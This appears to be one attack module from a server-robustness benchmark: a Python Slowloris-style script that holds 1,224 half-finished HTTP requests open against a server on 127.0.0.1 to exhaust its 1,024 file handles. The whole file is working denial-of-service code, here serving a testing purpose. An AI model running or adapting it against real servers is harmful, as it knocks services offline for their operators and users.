"""1,224 requests whose headers never end, at a server that may open 1,024 files. Whoever is cut off
comes again."""

import asyncio
from typing import Final
from urllib.parse import urlsplit

from bench.attacks import Ready
from bench.attacks.tools import ADDRESS

NAME: Final = "1,224 half-sent headers at 1,024 files"
FILES: Final = 1024
CONNECTIONS: Final = 1224
BEGUN: Final = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


async def attack(url: str, ready: Ready) -> None:
    port = urlsplit(url).port or 80
    ready()
    await asyncio.gather(*(hold(port, BEGUN) for _ in range(CONNECTIONS)))


async def hold(port: int, begun: bytes) -> None:
    """A letter a second, as long as the server bears it."""
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ADDRESS, 0))
            writer.write(begun)
            while not writer.transport.is_closing():
                await asyncio.sleep(1)
                writer.write(b"x")
            writer.transport.abort()
        except OSError:
            pass
        await asyncio.sleep(1)
